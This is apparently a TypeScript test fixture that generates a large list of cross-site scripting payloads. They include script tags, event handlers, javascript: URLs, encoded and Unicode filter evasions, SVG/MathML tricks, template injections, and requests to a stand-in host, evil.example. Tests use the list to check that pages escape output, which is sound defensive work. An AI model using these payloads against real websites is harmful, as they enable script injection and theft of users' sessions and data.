/*
 * Texts that would run a script where a page forgot to encode them, combined from families. Each calls `hit()`, which a test puts into every frame, or asks
 * an address of evil.example, which a test sees as a request.
 */

const run = "hit()";
const away = "//evil.example/x";

const across = (parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>((made, choices) => made.flatMap((before) => choices.map((choice) => before + choice)), [""]);

const tags = [
  ...across([["<script", "<ScRiPt", "<script/x", "<script\n", "<\tscript"], [">"], [run, "self['hit']()", "hit``"], ["</script>", "</script "]]),
  `<<script>${run}//<</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script src=${away}></script>`,
  `<script type=module>${run}</script>`,
  `<script>${run}`,
];

const sources = ["img src=x", "video src=x", "audio src=x", "object data=x", "link rel=stylesheet href=x"].map((tag) => [tag, "onerror"] as const);
const loads = ["svg", "body", "iframe", "style"].map((tag) => [tag, "onload"] as const);
const focused = ["input autofocus", "select autofocus", "textarea autofocus", "a href=x autofocus", "p tabindex=0 autofocus"].map(
  (tag) => [tag, "onfocus"] as const,
);
const others = [
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["p contenteditable", "onmouseover"],
] as const;
const handlers = [...sources, ...loads, ...focused, ...others].flatMap(([tag, event]) => [
  `<${tag} ${event}=${run}>`,
  `<${tag} ${event}="${run}">`,
  `<${tag}\n${event.toUpperCase()}='${run}'>`,
  `<${tag.replaceAll(" ", "/")}/${event}=${run}//`,
  `<${tag}\u000c${event}\t=\t${run} x=`,
]);

const attributes = across([
  [`"`, `'`, "`", `">`, `'>`, `" '>`, `\\">`, `&quot;>`],
  [` onmouseover=${run} x=`, ` autofocus onfocus=${run} tabindex=0 x=`, `<img src=x onerror=${run}>`, `<svg/onload=${run}>`],
]);

const endings = across([
  ["</title>", "</textarea>", "</style>", "</script>", "</option></select>", "</noscript>", "</svg>", "</template>", "</xmp>", "-->", "]]>"],
  [`<script>${run}</script>`, `<img src=x onerror=${run}>`],
]);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title>*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
  `jav\u0130script:${run}`,
  `feed:javascript:${run}`,
];
export const hostileAddresses: readonly string[] = schemes;
const addresses = schemes.flatMap((url) => [url, `<a href="${url}">x</a>`, `[x](${url})`, `<iframe src="${url}"></iframe>`]);

const encodings = ["&lt;", "&#60;", "&#x3c;", "&#x3C", "&LT", "%3C", "%253C", "\\u003c", "\\x3c", "\\74", "+ADw-", "\uff1c", "&amp;lt;"].flatMap(
  (open) => [`${open}script>${run}${open}/script>`, `${open}img src=x onerror=${run}>`],
);

const drawings = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href=data:,${run} />`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${run}</script></svg>#x">`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
];

const templates = [
  "{{hit()}}",
  "{{constructor.constructor('hit()')()}}",
  "${hit()}",
  "#{hit()}",
  "<%= hit() %>",
  "{% hit() %}",
  "[[hit()]]",
  "`${hit()}`",
  "@(hit())",
];

const unicode = [
  `<scr\u0130pt>${run}</scr\u0130pt>`,
  `<\u017fcript>${run}</\u017fcript>`,
  `<img\u00a0src=x\u2028onerror=${run}>`,
  `\u202e<script>${run}</script>\u202c`,
  `<scr\u200bipt>${run}</scr\u200bipt>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `\ud800<script>${run}</script>`,
  `\ufeff<script>${run}</script>`,
  `<img src=x onerror\u0000=${run}>`,
  `\u2028${run}\u2029//`,
];

const comments = [
  `<!--><script>${run}</script>-->`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<!-- --!><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${run}</script>">]>&e;`,
  `</ x><img src=x onerror=${run}>`,
  `<!x ><script>${run}</script>`,
];

const styles = [
  `<style>@import '${away}';</style>`,
  `<style>*{background:url(${away})}</style>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="background:url(${away})">x</p>`,
  `<link rel=stylesheet href=${away}>`,
  `x;background:url(${away})`,
  `</style><script>${run}</script><style>`,
];

const framed = [
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<img src=x onerror=parent.${run}>'></iframe>`,
  `<embed src=data:text/html,<script>${run}</script>>`,
  `<portal src=${away}>`,
];

const data = [
  `","@type":"Person","name":"</script><script>${run}</script>`,
  `</script><!--<script>${run}</script>`,
  `<!--<script>"}]}</script><script>${run}</script>`,
  `"}]};${run};//`,
  `\\"}</script><svg onload=${run}>`,
  `]]></description></item><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
];

const documents = [
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=${away}>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<img src=${away}>`,
  `<img srcset="${away} 2x">`,
  `<object data=${away}></object>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

/** Every family, each text once. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...tags,
    ...handlers,
    ...attributes,
    ...endings,
    ...addresses,
    ...encodings,
    ...drawings,
    ...templates,
    ...unicode,
    ...comments,
    ...styles,
    ...framed,
    ...data,
    ...documents,
  ]),
];
